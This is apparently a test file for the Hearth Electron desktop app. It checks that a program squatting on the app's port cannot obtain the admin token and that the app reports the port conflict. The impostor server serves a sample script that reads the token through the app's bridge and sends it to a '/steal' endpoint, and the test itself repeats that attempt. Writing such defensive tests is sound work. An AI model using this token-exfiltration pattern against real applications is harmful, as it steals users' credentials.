/**
 * The desktop app against a program that took its port first: the real supervisor starts the real
 * `hearth serve` (dist/, as packaged), with a fake Electron. The impostor answers every request as
 * Hearth would; it must never get the admin token, and the app must say why it is not serving.
 */
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { IPC, type ServerStatus } from '../../main/api.js';
import { startDesktop, type Desktop } from '../../main/desktop.js';
import { freePort } from '../reliability/child.js';
import { createFakeElectron, frameEvent } from './fake-electron.js';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
const TOKEN = 'hearth_admin_desktop-impostor-test-token-0123456789';

async function startImpostor(port: number) {
  const heads: string[] = [];
  const server: Server = createServer((req, res) => {
    heads.push(`${req.method} ${req.url}\n${JSON.stringify(req.headers)}`);
    if (req.url?.startsWith('/ui')) {
      res.setHeader('content-type', 'text/html');
      res.end('<script>window.hearth.getAdminToken().then((t) => fetch("/steal", { headers: { authorization: "Bearer " + t } }))</script>');
      return;
    }
    res.setHeader('content-type', 'application/json');
    res.end('{"live":true}');
  });
  server.listen(port, '127.0.0.1');
  await once(server, 'listening');
  return { heads, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

/** Resolves once `done` holds, checking on every status change and every 50 ms, for up to 60 s. */
async function until(done: () => boolean): Promise<void> {
  for (let i = 0; i < 1200 && !done(); i += 1) await new Promise((resolve) => setTimeout(resolve, 50));
}

describe('the desktop app and its own server', () => {
  let userData: string;
  let desktop: Desktop | null = null;
  beforeEach(() => {
    userData = mkdtempSync(join(tmpdir(), 'hearth-desktop-impostor-'));
  });
  afterEach(async () => {
    await desktop?.supervisor.stop();
    desktop = null;
    rmSync(userData, { recursive: true, force: true });
  });

  async function launch(port: number) {
    const fake = createFakeElectron({ userData, appPath: ROOT });
    const statuses: ServerStatus[] = [];
    desktop = await startDesktop({
      electron: fake.api,
      spawn: (command, args, options) => spawn(command, args, options),
      preloadPath: join(ROOT, 'dist', 'main', 'preload.cjs'),
      execPath: process.execPath,
      resourcesPath: ROOT,
      env: { ...process.env, HEARTH_PORT: String(port), HEARTH_ADMIN_TOKEN: TOKEN, HEARTH_NODE: process.execPath, HEARTH_DATA_DIR: join(userData, 'data') },
      supervisor: { backoff: { initialMs: 50 }, healthIntervalMs: 25 },
    });
    desktop?.supervisor.onStatus((status) => statuses.push(status));
    return { ...fake, statuses };
  }

  it('sends an impostor on its port nothing, and reports that the port is taken', async () => {
    const port = await freePort();
    const impostor = await startImpostor(port);
    try {
      const { windows, ipcMain } = await launch(port);
      const [window] = windows as [(typeof windows)[number]];
      await until(() => window.loaded.length > 0 || (desktop?.supervisor.status().error ?? null) !== null);
      if (window.loaded.length > 0) {
        // What the impostor's page does once the window shows it: ask the bridge, send the answer home.
        const token = await ipcMain.invoke(IPC.getAdminToken, frameEvent(window.loaded[0] ?? '')).catch(() => null);
        if (typeof token === 'string') await fetch(`http://127.0.0.1:${port}/steal`, { headers: { authorization: `Bearer ${token}` } });
      }
      for (const head of impostor.heads) expect(head).not.toContain(TOKEN);
      expect(window.loaded).toEqual([]);
      const status = desktop?.supervisor.status();
      expect(status?.state).toBe('stopped');
      expect(status?.error).toMatch(/the port is in use by another program/);
      expect(status?.error).toContain(`:${port}`);
      expect(status?.restarts).toBe(0);
      await expect(ipcMain.invoke(IPC.getAdminToken, frameEvent(`http://127.0.0.1:${port}/ui/`))).rejects.toThrow(/not proved/);
      expect(desktop?.supervisor.logs().join('\n')).toMatch(/EADDRINUSE/);
    } finally {
      await impostor.close();
    }
  });

  it('loads the UI and hands out the token once its own child proved its nonce', async () => {
    const port = await freePort();
    const { windows, ipcMain } = await launch(port);
    const [window] = windows as [(typeof windows)[number]];
    await until(() => window.loaded.length > 0 || desktop?.supervisor.status().error !== null);
    expect(desktop?.supervisor.status()).toMatchObject({ state: 'running', error: null });
    expect(window.loaded).toEqual([`http://127.0.0.1:${port}/ui/`]);
    expect(await ipcMain.invoke(IPC.getAdminToken, frameEvent(`http://127.0.0.1:${port}/ui/`))).toBe(TOKEN);
    expect(desktop?.supervisor.logs().join('\n')).toMatch(new RegExp(`server proved its identity at http://127.0.0.1:${port}`));
  });
});
